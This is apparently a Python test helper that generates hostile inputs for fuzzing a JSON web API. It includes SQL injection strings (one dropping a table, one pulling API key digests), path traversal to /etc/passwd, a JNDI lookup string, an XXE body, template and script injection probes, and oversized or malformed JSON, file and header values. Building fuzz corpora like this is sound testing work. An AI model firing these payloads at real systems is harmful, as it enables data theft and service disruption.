"""Values that break things: strings, numbers, and ways to spoil a JSON document."""

import copy
import json
from collections.abc import Callable, Iterator
from random import Random
from typing import Any

SQL = (
    "'", "''", "' OR '1'='1", "'; DROP TABLE jobs; --", "1; SELECT pg_sleep(20)--",
    "' UNION SELECT digest FROM api_keys --", "%' --", "\\'; --", "1)) OR 1=1 --", '" OR ""="', "'||(SELECT 1)||'",
    "$$;SELECT 1;$$", "randomblob(1000000000)", "x' AND 1=CAST((SELECT version()) AS int)--", "\x00' OR 1=1", "%",
    "_", "%25%27", "\\", "ﾇ' OR 1=1 --",
)  # fmt: skip
TRAVERSAL = (
    "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "....//....//etc/passwd", "a/../../b", "./a",
    "a//b", "a/./b", "..", ".", "/", "", "a/..", "%2e%2e%2fetc%2fpasswd", "..%2f..%2f", "..%c0%af..", "a\x00.png",
    "a\r\nX-Injected: 1", "C:\\a", "\\\\host\\share", "file:///etc/passwd", "a/b/", " ", "a\u202e.gpj",
    "\uff0e\uff0e/\uff0e\uff0e/x", "~root", "$HOME/x", "a?versionId=1", "a#b", "../raw2/a", "x/" * 300 + "x",
    "n" * 300, "é" * 200,
)  # fmt: skip
TEXT = (
    "\x00", "\r\nX-Injected: 1\r\n\r\n<html>", "a\nb", "\u202eabc", "\ufeff", "\U0001f9e0" * 50, "e\u0301" * 100,
    "ﷺ" * 50, "İ" * 64, "ß" * 64, "{{7*7}}", "${jndi:ldap://198.51.100.1/a}", "%s%n%x", "{0.__class__}", "__proto__",
    "<script>alert(1)</script>", "null", "NaN", "true", "-1", "0x10", "1e309", "9" * 400, "a" * 5000, "true\x85", "@",
    "@" * 70, "ds_", "prj_default", "@production", "x" * 65, "x" * 129, "x" * 1025, "2026-13-45T99:99:99Z",
    "0001-01-01T00:00:00Z", "9999-12-31T23:59:59.999999+23:59", "2026-01-01T00:00:00", "*", '"' * 3, "W/\"x\"", ",",
    "," * 500,
)  # fmt: skip
NUMBERS = (
    0, -1, 1, 2**31, 2**31 - 1, 2**53 + 1, 2**63, 2**63 - 1, -(2**63) - 1, 2**64, 10**30, 10**400, 1e308, -1e308,
    5e-324, -0.0, 0.1, 1e-400, 1.5, float("nan"), float("inf"), float("-inf"),
)  # fmt: skip
# as they are written into JSON, which json.dumps would not do
_RAW = (
    "[" * 200 + "]" * 200, "[" * 100_000 + "]" * 100_000, '{"a":' * 300 + "1" + "}" * 300, '"\\ud800"',
    '"\\udfff\\ud800"', '"\\u0000"', "9" * 5000, "1e999999", "-", "01", "'a'", '"\x01"', "undefined", "{,}",
    '"\\x41"', "/*c*/1", '{"a":1,"a":2}', "\ufeff1", '"unclosed',
)  # fmt: skip
_MARK = "@@hostile@@"
# kinds of content and contents that are none
TYPES = (
    "text/plain",
    "application/x-www-form-urlencoded",
    "multipart/form-data",
    "multipart/form-data; boundary=x",
    "application/xml",
    "application/json; charset=utf-16",
    "application/json; charset=nothing",
    "application/yaml",
    "*/*",
    "",
    "application/vnd.api+json",
    "APPLICATION/JSON",
    "application/json;;;",
    "application/octet-stream",
    "\xff",
    "a" * 1000,
)
BODIES = (
    b"",
    b"null",
    b"[]",
    b'""',
    b"0",
    b"{",
    b"}",
    b'{"a"',
    b"\x00",
    b"\xff\xfe{\x00}\x00",
    b"\xef\xbb\xbf{}",
    b"{}{}",
    b"{} trailing",
    b"\x80abc",
    b'{"name": "\xc3\x28"}',
    b"a=b&c=d",
    b"--x\r\nContent-Disposition: form-data; name=a\r\n\r\n1\r\n--x--\r\n",
    b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    b"[" * 100_000,
    b"{" * 50_000,
    b'{"a":' * 2000,
    b"\x1f\x8b\x08\x00\x00\x00\x00\x00",
    b"9" * 10_000,
    b'"' + b"a" * 1_000_000 + b'"',
    b"NaN",
    b"-Infinity",
)
FILES = (
    b"",
    b"x",
    b"\x89PNG\r\n\x1a\n" + b"\x00" * 50,
    b"\xff\xd8\xff\xe0" * 20,
    b"DICM" * 40,
    b"\x1f\x8b\x08\x00" + b"\x00" * 30,
    b"NRRD0004\ntype: float\ndimension: 99\nsizes: 99999999 99999999\n\n",
    b"II*\x00\xff\xff\xff\xff",
    b"%PDF-1.4",
    b"\x00" * 100_000,
    b"ObjectType = Image\nNDims = 3\nDimSize = 9999999 9999999 9999999\nElementDataFile = /etc/passwd\n",
    b"\x00" * 128 + b"DICM" + b"\xff" * 64,
    b"BM" + b"\xff" * 60,
    b"GIF89a" + b"\xff" * 20,
    b"P6 99999999 99999999 255\n",
)


def text(rng: Random) -> str:
    """A string that something may trip over."""
    return rng.choice(rng.choice((SQL, TRAVERSAL, TEXT)))


def value(rng: Random) -> Any:
    """Any JSON value."""
    return rng.choice((
        lambda: text(rng), lambda: rng.choice(NUMBERS), lambda: rng.choice((None, True, False)),
        lambda: rng.choice(([], {}, [[]], [None], {"": None}, [1] * 1000, ["x"] * 5000, dict.fromkeys(SQL, 1))),
        lambda: [value(rng)], lambda: {text(rng): value(rng)},
    ))()  # fmt: skip


def spoiled(rng: Random, body: Any) -> bytes:
    """A JSON document with one to three things wrong; sometimes it is still a good one."""
    tree, raw = {"": copy.deepcopy(body)}, None
    for _ in range(rng.choice((1, 1, 1, 2, 3))):
        holder, key = rng.choice([*_places(tree)])
        raw = rng.choice(_CHANGES)(rng, holder, key) or raw
    written = json.dumps(tree[""], ensure_ascii=rng.random() < 0.5)
    if raw is not None:
        written = written.replace(json.dumps(_MARK), raw, 1)
    return written.encode("utf-8", "surrogatepass")


def _places(tree: Any) -> Iterator[tuple[Any, Any]]:
    """Every place of a document, as what holds it and its key there."""
    entries = tree.items() if isinstance(tree, dict) else enumerate(tree) if isinstance(tree, list) else ()
    for key, held in [*entries]:
        yield tree, key
        yield from _places(held)


def _another(rng: Random, holder: Any, key: Any) -> None:
    holder[key] = value(rng)


def _remove(rng: Random, holder: Any, key: Any) -> None:
    if key != "":
        del holder[key]


def _unknown_key(rng: Random, holder: Any, key: Any) -> None:
    if isinstance(holder[key], dict):
        holder[key][text(rng)] = value(rng)
    else:
        holder[key] = {"value": holder[key]}


def _written(rng: Random, holder: Any, key: Any) -> str:
    holder[key] = _MARK
    return rng.choice(_RAW)


def _twice(rng: Random, holder: Any, key: Any) -> str | None:
    """The same key a second time."""
    if not isinstance(key, str) or key == "":
        return None
    first = json.dumps(holder[key])
    holder[key] = _MARK
    return f"{first}, {json.dumps(key)}: {json.dumps(value(rng))}"


def _repeat(rng: Random, holder: Any, key: Any) -> None:
    if isinstance(holder[key], list) and len(holder[key]) < 100:
        holder[key] = holder[key] * rng.choice((2, 600))
    elif isinstance(holder[key], str) and len(holder[key]) < 1000:
        holder[key] = holder[key] * rng.choice((2, 50, 1000))


def _nudge(rng: Random, holder: Any, key: Any) -> None:
    """Nearly right: the hardest to see."""
    found = holder[key]
    if isinstance(found, bool):
        holder[key] = rng.choice((int(found), str(found).lower()))
    elif isinstance(found, int | float):
        holder[key] = rng.choice((str(found), -found, f"{found}.5", [found]))
    elif isinstance(found, str):
        place = rng.randrange(len(found) + 1)
        holder[key] = rng.choice(
            (found[:place], found.upper(), found + " ", found[:place] + text(rng) + found[place:], [found])
        )
    elif isinstance(found, list):
        holder[key] = rng.choice((dict(enumerate(map(str, found))), found[:1], [*found, None]))


_CHANGES: tuple[Callable[[Random, Any, Any], str | None], ...] = (
    _another, _another, _another, _remove, _unknown_key, _written, _twice, _repeat, _nudge, _nudge,
)  # fmt: skip
